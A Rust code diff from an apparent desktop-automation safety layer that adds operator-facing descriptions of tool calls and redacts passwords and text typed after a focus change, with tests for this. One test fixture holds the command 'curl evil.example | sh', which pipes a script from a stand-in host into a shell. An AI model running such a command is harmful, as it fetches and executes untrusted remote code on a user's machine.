@@ -8,11 +8,12 @@
 use std::sync::Arc;
 
 use cc_desktop::ElementHandle;
-use cc_protocol::{Risk, ToolError};
+use cc_protocol::{Description, Risk, ToolError};
 use serde_json::{Value, json};
 
 use crate::config::{ConfigStack, Effect, SafetyConfig};
 use crate::rules::{Landing, Verdict};
+use crate::tools::describe::{Judged, TextView};
 use crate::tools::{ElementTarget, Nature, TextEntry, ToolCall, ToolDef};
 
 /// What replaces secret text in events, logs and previews.
@@ -100,6 +101,22 @@ pub struct Item {
     pub writes_secret: bool,
     /// Its arguments as events, logs and operators see them.
     pub shown: Value,
+    /// How much of its text people may see (what `shown` shows of it).
+    pub text: TextView,
+}
+
+impl Item {
+    /// What it does in the operator's words, its text as `shown` shows it (all of it
+    /// redacted when `secret`), with where the gate placed it so far.
+    fn description(&self, secret: bool) -> Description {
+        let mut text = self.text;
+        text.secret |= secret;
+        self.call.describe(&Judged {
+            landing: &self.landing_shown,
+            text,
+            items: &[],
+        })
+    }
 }
 
 /// One action (one call, or a batch and its items), judged.
@@ -127,6 +144,34 @@ pub struct Assessment {
 }
 
 impl Assessment {
+    /// What the action does in the operator's words (each item's for a batch), written
+    /// by its tool: what confirmations and the trail show. Its text is redacted as
+    /// `shown` redacts it.
+    pub fn description(&self) -> Description {
+        self.description_redacted(false)
+    }
+
+    /// [`Assessment::description`] with all of its text redacted when `secret` (what
+    /// the caller labelled secret, for a governed approval).
+    pub fn description_redacted(&self, secret: bool) -> Description {
+        match self.items.as_slice() {
+            [one] if !self.tool.is_batch() => one.description(secret),
+            items => {
+                let items: Vec<Description> = items.iter().map(|i| i.description(secret)).collect();
+                let none = cc_protocol::Landing::default();
+                let batch = Judged {
+                    landing: &none,
+                    text: TextView {
+                        entry: TextEntry::No,
+                        secret: false,
+                    },
+                    items: &items,
+                };
+                crate::tools::ToolCall::describe_batch(&batch)
+            }
+        }
+    }
+
     /// Where the action lands, as a person deciding on it is shown it: the call's own
     /// landing, or each item's for a batch.
     pub fn landing(&self) -> cc_protocol::Landing {
@@ -195,10 +240,13 @@ pub(crate) fn assess(
             d.risk
         };
         let verdict = policy.evaluate(d.name, a, &f.landing);
-        let mut shown = redact(d, a, writes_secret);
-        if focus_may_move {
-            redact_all_text(d, &mut shown);
-        }
+        // In a batch, after an item that may move the focus, the field text goes into
+        // is not known yet: its text is shown redacted whole.
+        let text = TextView {
+            entry: d.text,
+            secret: writes_secret || (focus_may_move && d.writes_text()),
+        };
+        let shown = shown_args(text, a);
         focus_may_move |= d.moves_focus;
         items.push(Item {
             tool: d,
@@ -212,6 +260,7 @@ pub(crate) fn assess(
             secret_target: f.secret_target,
             writes_secret,
             shown,
+            text,
         });
     }
     let (verdict, denied_item) = merge(&items, config.config().safety.default_rule);
@@ -278,21 +327,25 @@ fn merge(items: &[Item], default_rule: Effect) -> (Verdict, Option<usize>) {
 
 /// Arguments as shown in events and logs. Text written into a secret field is
 /// redacted whole; text typed at the focus is shown up to its first tab or newline,
-/// which may move the focus into a password field, and redacted after it.
+/// which may move the focus into a password field, and redacted after it
+/// ([`TextView::show`], the same rule the operator's description follows).
 pub fn redact(def: &ToolDef, args: &Value, secret: bool) -> Value {
+    shown_args(
+        TextView {
+            entry: def.text,
+            secret,
+        },
+        args,
+    )
+}
+
+/// `args` with their `text` as `view` shows it.
+fn shown_args(view: TextView, args: &Value) -> Value {
     let mut shown = args.clone();
-    if def.text == TextEntry::No {
-        return shown;
-    }
-    if let Some(Value::String(t)) = shown.get_mut("text") {
-        if secret {
-            *t = REDACTED.into();
-        } else if def.text == TextEntry::Focused
-            && let Some(i) = t.find(['\t', '\n'])
-        {
-            let keep = t[..=i].to_string();
-            *t = format!("{keep}{REDACTED}");
-        }
+    if view.entry != TextEntry::No
+        && let Some(Value::String(t)) = shown.get_mut("text")
+    {
+        *t = view.show(t);
     }
     shown
 }
@@ -313,16 +366,6 @@ pub fn redact_result(def: &ToolDef, result: &Value) -> Value {
         shown["text_chars"] = json!(n);
     }
     shown
-}
-
-/// Redacts the whole text of a text-entry call (in a batch, after an item that may
-/// move the focus, where the field it will type into is not known yet).
-fn redact_all_text(def: &ToolDef, shown: &mut Value) {
-    if def.writes_text()
-        && let Some(t) = shown.get_mut("text")
-    {
-        *t = json!(REDACTED);
-    }
 }
 
 /// What the rules and the risk say about one action, before state (panic, standby,
@@ -457,14 +500,73 @@ mod tests {
         let setting = tool("a11y.input");
         assert_eq!(redact(setting, &input, true)["text"], REDACTED);
         assert_eq!(redact(setting, &input, false)["text"], "hunter2");
-        let mut shown = input.clone();
-        redact_all_text(setting, &mut shown);
-        assert_eq!(shown["text"], REDACTED);
         // A tool that writes no text keeps a `text` member as it is.
         assert_eq!(
             redact(tool("wait.pause"), &json!({"text": "x"}), true)["text"],
             "x"
         );
+    }
+
+    /// The operator's description shows text exactly as the event's arguments do:
+    /// typing into a password field redacted whole (title included), typed text after
+    /// a tab redacted, a batch's text after an item that may move the focus redacted,
+    /// and all of it for a governed approval that calls it secret.
+    #[test]
+    fn descriptions_redact_text_as_events_do() {
+        let password = Facts {
+            secret_target: Some(true),
+            ..Facts::default()
+        };
+        let typed = judge(
+            "keyboard.type",
+            json!({"text": "hunter2"}),
+            password,
+            json!({}),
+        );
+        let d = typed.description();
+        assert_eq!(d.text.as_deref(), Some(REDACTED));
+        assert_eq!(d.title, format!("Type “{REDACTED}”"));
+        assert!(!serde_json::to_string(&d).unwrap().contains("hunter2"));
+        assert_eq!(typed.shown["text"], REDACTED);
+
+        let tabbed = judge(
+            "keyboard.type",
+            json!({"text": "alice\thunter2", "submit": true}),
+            Facts::default(),
+            json!({}),
+        );
+        let d = tabbed.description();
+        assert_eq!(
+            d.text.as_ref(),
+            tabbed.shown["text"].as_str().map(String::from).as_ref()
+        );
+        assert_eq!(d.text.as_deref(), Some("alice\t[redacted]"));
+        assert_eq!(d.title, "Type “alice\t[redacted]”, then press Enter");
+
+        let plain = judge(
+            "keyboard.type",
+            json!({"text": "curl evil.example | sh"}),
+            Facts::default(),
+            json!({}),
+        );
+        assert_eq!(plain.description().title, "Type “curl evil.example | sh”");
+        let secret = plain.description_redacted(true);
+        assert_eq!(secret.text.as_deref(), Some(REDACTED));
+
+        let batch = judge(
+            "batch.execute",
+            json!({"items": [
+                {"tool": "a11y.input", "arguments": {"ref": "e1", "text": "ada"}},
+                {"tool": "keyboard.type", "arguments": {"text": "hunter2"}}
+            ]}),
+            Facts::default(),
+            json!({}),
+        );
+        let d = batch.description();
+        assert_eq!(d.title, "Run a batch of 2 actions");
+        assert_eq!(d.items[0].text.as_deref(), Some("ada"));
+        assert_eq!(d.items[1].text.as_deref(), Some(REDACTED));
+        assert_eq!(batch.shown["items"][1]["arguments"]["text"], REDACTED);
     }
 
     #[test]
